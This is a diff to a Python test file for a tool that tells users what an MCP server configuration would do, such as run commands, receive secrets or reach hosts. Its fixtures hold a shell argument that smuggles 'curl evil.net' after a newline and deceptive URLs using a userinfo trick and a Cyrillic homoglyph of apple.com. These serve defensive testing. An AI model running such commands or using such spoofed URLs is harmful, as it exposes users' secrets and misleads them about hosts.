@@ -11,16 +11,34 @@ def server(**keys: object) -> McpServer:
 
 
 def test_what_it_would_do_is_whole_and_a_line_each() -> None:
-    local = server(command="sh", args=("-c", "true\ncurl evil.net; a 'b'"), env={"A": "${TOKEN}"}, cwd="/x")
+    local = server(command="sh", args=("-c", "true\ncurl evil.net; a 'b'"), env={"A": "${TOKEN} ${LEVEL}"}, cwd="/x")
     remote = server(command="", transport="http", url="https://h/${KEY}", headers={"A": "${TOKEN}"})
 
     assert does(local) == (
         """run sh -c 'true\\ncurl evil.net; a '"'"'b'"'"''""",
         "do so in the sandbox, with a network",
         "do so in /x",
-        "be given your variables TOKEN",
+        "be given your SECRETS TOKEN",
+        "be given your variables LEVEL",
     )
-    assert does(remote) == ("reach https://h/${KEY}", "be sent your variables KEY, TOKEN")
+    assert does(remote) == ("reach https://h/${KEY}", "be sent your SECRETS KEY, TOKEN")
+
+
+@pytest.mark.parametrize(
+    ("url", "host"),
+    [
+        ("https://github.com@evil.example/mcp", "evil.example"),
+        ("https://\u0430pple.com/mcp", "xn--pple-43d.com"),
+        ("https://apple.com/\u0430", ""),
+        ("https://${HOST}/mcp?a@b", ""),
+    ],
+)
+def test_a_host_that_may_be_taken_for_another_one_is_told(url: str, host: str) -> None:
+    told = does(server(command="", transport="http", url=url))
+
+    assert told == (f"reach {url}{f' (the host is {host})' if host else ''}",) + (
+        ("be sent your variables HOST",) if "HOST" in url else ()
+    )
 
 
 @pytest.mark.parametrize(
